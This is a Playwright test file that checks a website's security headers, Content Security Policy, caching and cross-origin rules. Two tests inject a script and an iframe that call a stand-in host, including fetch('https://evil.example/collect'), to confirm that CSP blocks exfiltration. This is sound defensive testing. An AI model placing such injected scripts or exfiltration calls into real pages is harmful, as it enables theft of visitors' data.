import { createHash } from "node:crypto";
import { readdirSync } from "node:fs";
import { extname, join } from "node:path";
import type { APIResponse, Page } from "@playwright/test";
import { PUBLIC_PATHS, TOKEN_PAGES } from "#web/build/public-paths.ts";
import { root } from "#web/build/root.ts";
import { SITE_URL } from "./harness/environment.ts";
import { expect, MAP_ORIGIN, nightly, scrollThroughPage, stubMap, test, waitForHydration } from "./harness/visitor.ts";

const STRICT_HEADERS = {
  "strict-transport-security": "max-age=63072000; includeSubDomains; preload",
  "x-content-type-options": "nosniff",
  "referrer-policy": "strict-origin-when-cross-origin",
  "cross-origin-opener-policy": "same-origin",
};

const siteDir = join(root, "dist/site");
const files = readdirSync(siteDir, { recursive: true, withFileTypes: true })
  .filter((entry) => entry.isFile() && !entry.name.startsWith("_"))
  .map((entry) => join(entry.parentPath, entry.name).slice(siteDir.length));

/** One file of each folder and type, as distinguished by the header rules. */
const oneOfEachKind = [
  ...new Map(files.toReversed().map((file) => [`${file.split("/")[1]} ${extname(file)}`, file])).values(),
].filter((file) => !file.endsWith(".html"));

const pagePaths = [
  ...new Set([...PUBLIC_PATHS, ...(files.includes("/admin/virtual-office.html") ? ["/admin/virtual-office"] : [])]),
];

test("every page and file type has all headers", async ({ request }) => {
  expect(new Set(oneOfEachKind.map((file) => extname(file)))).toEqual(
    new Set(files.map((file) => extname(file)).filter((extension) => extension !== ".html")),
  );
  for (const path of [...pagePaths, ...oneOfEachKind, "/no-such-page", "/404", "/assets/no-such.js", "/admin/nothing"])
    expectGuarded(path, await request.get(path, { maxRedirects: 0 }));
});

test("a path with .html or a trailing slash redirects with all headers", async ({ request }) => {
  for (const path of ["/index.html", "/help-center.html", "/help-center/"]) {
    const answer = await request.get(path, { maxRedirects: 0 });
    expect(answer.status(), path).toBe(307);
    expect(answer.headers().location, path).toMatch(/^\/(help-center)?$/);
  }
});

test("a folder is no page and has no listing", async ({ request }) => {
  for (const path of ["/assets/", "/assets", "/pictures/", "/cards/", "/guides/"])
    expect((await request.get(path)).status(), path).toBe(404);
});

test("API responses have all headers and forbid all content", async ({ request }) => {
  for (const answer of [
    await request.get("/api/exchange-rate/usd-ghs"),
    await request.get("/api/nope"),
    await request.get("/api/newsletter/unsubscribe?token=no-such-link"),
    await request.post("/api/contact", { data: {} }),
    await request.put("/api/contact", { data: {} }),
    await request.post("/api/contact", { data: "<p>", headers: { "content-type": "text/html" } }),
    await request.get("/api/admin/summary"),
    await request.post("/api/payment/webhook", { data: "{}" }),
  ]) {
    expectGuarded(answer.url(), answer);
    expect(policyOf(answer).get("script-src"), answer.url()).toBeUndefined();
    // A page behind a mail link is an API response with a style of its own.
    const style = hashesOf(await answer.text(), "style").join(" ");
    expect(policyOf(answer).get("style-src") ?? "", answer.url()).toBe(style);
  }
});

test("only social cards may be embedded by other sites", async ({ request }) => {
  for (const path of ["/", ...oneOfEachKind]) {
    const answer = await request.get(path);
    const policy = path.startsWith("/cards/") ? "cross-origin" : "same-origin";
    expect(answer.headers()["cross-origin-resource-policy"], path).toBe(policy);
  }
});

test("hashed files are cached forever, personal pages never", async ({ request }) => {
  const script = files.find((file) => file.startsWith("/assets/") && file.endsWith(".js")) ?? "";
  expect((await request.get(script)).headers()["cache-control"]).toContain("immutable");
  for (const path of ["/payment/verify", "/admin/virtual-office"]) {
    const answer = await request.get(path);
    expect(answer.headers()["cache-control"], path).toContain("no-store");
    expect(answer.headers()["x-robots-tag"], path).toBe("noindex");
  }
});

test("every inline style and script has its own hash, and no other hash is allowed", async ({ request }) => {
  for (const path of [...pagePaths, "/no-such-page"]) {
    const answer = await request.get(path);
    const html = await answer.text();
    const policy = policyOf(answer);
    for (const [directive, element] of [
      ["script-src", "script"],
      ["style-src", "style"],
    ] as const) {
      const inlined = hashesOf(html, element);
      const allowed = policy.get(directive)?.split(" ") ?? [];
      expect(allowed, `${path} ${directive}`).toEqual(["'self'", ...new Set(inlined)]);
    }
    expect(html, path).not.toMatch(/<[a-z][^>]*\s(style|on[a-z]+)="/);
    expect(html, path).not.toMatch(/(href|src|action)="(javascript|data:text)/i);
  }
});

test("inline script hashes are not combined with guessable sources", async ({ request }) => {
  for (const path of pagePaths) {
    const policy = policyOf(await request.get(path));
    expect(policy.get("default-src"), path).toBe("'none'");
    expect(policy.get("base-uri"), path).toBe("'none'");
    expect(policy.get("object-src"), path).toBe("'none'");
    expect(policy.get("frame-ancestors"), path).toBe("'none'");
    expect(policy.get("form-action"), path).toBe("'self'");
    expect(policy.get("connect-src"), path).toBe("'self'");
    expect(policy.get("frame-src"), path).toBe(path.startsWith("/admin/") ? "'self'" : MAP_ORIGIN);
    for (const [directive, sources] of policy) {
      expect(sources, `${path} ${directive}`).not.toMatch(
        /unsafe-|\*|http:|https:(?!\/\/www\.openstreetmap\.org)|blob:/,
      );
      if (sources.includes("data:")) expect(directive, path).toBe("img-src");
    }
  }
});

/** The pages with the most parts, with payments and for staff, and the 404 page. */
const DAYTIME_PATHS = ["/", "/payment/verify", "/no-such-page"];

for (const path of [...pagePaths, "/no-such-page"]) {
  test(
    `${path} violates no policy and contacts no other host`,
    nightly(!DAYTIME_PATHS.includes(path)),
    async ({ page, browserErrors }) => {
      test.slow();
      const requests = await recordRequests(page);
      await page.goto(path);
      if (path !== "/no-such-page") await waitForHydration(page);
      await scrollThroughPage(page);
      await openEverything(page);
      const isMapAskedFor = () => requests.some((url) => url.startsWith(MAP_ORIGIN));
      if (path === "/east-legon") await expect.poll(isMapAskedFor).toBe(true);
      expect(await violationsOf(page)).toEqual([]);
      expect(browserErrors.filter(isAboutPolicy)).toEqual([]);
      expect(requests.filter((url) => isCrossOrigin(url))).toEqual([]);
      expect(await page.context().cookies()).toEqual([]);
    },
  );
}

test("only the map may be framed", async ({ page }) => {
  await recordRequests(page);
  await page.goto("/east-legon");
  await waitForHydration(page);
  await page.evaluate(() => {
    const frame = document.createElement("iframe");
    frame.src = "https://evil.example/";
    document.body.append(frame);
  });
  await expect.poll(() => violationsOf(page)).toEqual(["frame-src https://evil.example"]);
});

test("an injected script does not run and cannot send data", async ({ page }) => {
  await recordRequests(page);
  await page.goto("/");
  await waitForHydration(page);
  const hasRun = await page.evaluate(async () => {
    const inline = document.createElement("script");
    inline.textContent = "window.injected = true";
    document.body.append(inline);
    document.body.insertAdjacentHTML("beforeend", '<button id="lure" onclick="window.injected = true">Press</button>');
    document.getElementById("lure")?.click();
    await fetch("https://evil.example/collect", { method: "POST", mode: "no-cors" }).catch(() => null);
    return "injected" in window;
  });
  expect(hasRun).toBe(false);
  const violations = await violationsOf(page);
  expect(violations).toContain("connect-src https://evil.example/collect");
  expect(violations.filter((violation) => violation.startsWith("script-src"))).toHaveLength(2);
});

function expectGuarded(path: string, answer: APIResponse) {
  const headers = answer.headers();
  // The address is secret, and so is the visit itself.
  const referrer = TOKEN_PAGES.includes(path) && { "referrer-policy": "no-referrer" };
  expect(headers, path).toMatchObject({ ...STRICT_HEADERS, ...referrer });
  expect(headers["cross-origin-resource-policy"], path).toMatch(/^(same-origin|cross-origin)$/);
  expect(headers["permissions-policy"], path).toMatch(/camera=\(\).*|.*geolocation=\(\)/);
  for (const name of ["camera", "microphone", "geolocation", "payment"])
    expect(headers["permissions-policy"], path).toContain(`${name}=()`);
  const policy = policyOf(answer);
  expect(policy.get("default-src"), path).toBe("'none'");
  expect(policy.get("frame-ancestors"), path).toBe("'none'");
  expect(headers["content-security-policy"], path).not.toContain("unsafe");
  expect(headers["access-control-allow-origin"], path).toBeUndefined();
  expect(headers["set-cookie"], path).toBeUndefined();
  expect(headers["x-powered-by"], path).toBeUndefined();
  expect(headers["content-type"], path).toMatch(/\S/);
}

/** The sources that allow the inline scripts or styles of a page. */
function hashesOf(html: string, element: "script" | "style"): string[] {
  return [...html.matchAll(new RegExp(`<${element}([^>]*)>([\\s\\S]*?)</${element}>`, "g"))]
    .filter(([, attributes = ""]) => !/application\/(ld\+)?json|src=/.test(attributes))
    .map(([, , text = ""]) => `'sha256-${createHash("sha256").update(text).digest("base64")}'`);
}

function policyOf(answer: APIResponse): Map<string, string> {
  const directives = (answer.headers()["content-security-policy"] ?? "").split("; ").filter(Boolean);
  const pairs = directives.map((directive): [string, string] => {
    const [name = "", ...sources] = directive.split(" ");
    return [name, sources.join(" ")];
  });
  expect(new Set(pairs.map(([name]) => name)).size).toBe(pairs.length);
  return new Map(pairs);
}

/** Records the page's requests and policy violations; the map is stubbed. */
async function recordRequests(page: Page): Promise<string[]> {
  const requests: string[] = [];
  page.on("request", (request) => requests.push(request.url()));
  await stubMap(page);
  await page.addInitScript(() => {
    const reported: string[] = [];
    Object.assign(window, { refused: reported });
    addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) =>
      reported.push(`${effectiveDirective} ${blockedURI}`),
    );
  });
  return requests;
}

function violationsOf(page: Page): Promise<string[]> {
  return page.evaluate(() => (window as unknown as { refused: string[] }).refused);
}

function isAboutPolicy(message: string): boolean {
  return /content security policy|permissions policy|refused to|violates/i.test(message);
}

function isCrossOrigin(url: string): boolean {
  const { protocol, origin } = new URL(url);
  return protocol !== "data:" && origin !== SITE_URL && origin !== MAP_ORIGIN;
}

/** Clicks every button that sends nothing: dialogs, gallery, calendar, menu, map. */
async function openEverything(page: Page) {
  // One gallery picture represents all, because they open the same dialog.
  const buttons = page.locator('button:not([type="submit"]):not(#gallery li:nth-child(n + 2) *)');
  // Synchronous: the map's button disappears when the map loads by itself.
  const names = new Set(
    await buttons
      .filter({ visible: true })
      .evaluateAll((all) => all.map((button) => button.getAttribute("aria-label") ?? button.textContent ?? "")),
  );
  for (const name of names) {
    const named = page.locator(`[aria-label=${JSON.stringify(name)}]`).or(page.locator("button", { hasText: name }));
    const button = buttons.filter({ visible: true }).and(named).first();
    // The map's button disappears when the map loads by itself.
    if (!(await button.isVisible())) continue;
    await button.click({ timeout: 2000 }).catch(() => {});
    const calendar = page.getByRole("dialog").last().getByLabel("Start date");
    if (await calendar.isVisible()) await calendar.click();
    // An open dialog would hide the other buttons.
    await expect(async () => {
      await page.keyboard.press("Escape");
      await expect(page.locator("dialog[open]")).toHaveCount(0, { timeout: 300 });
    }).toPass();
  }
}
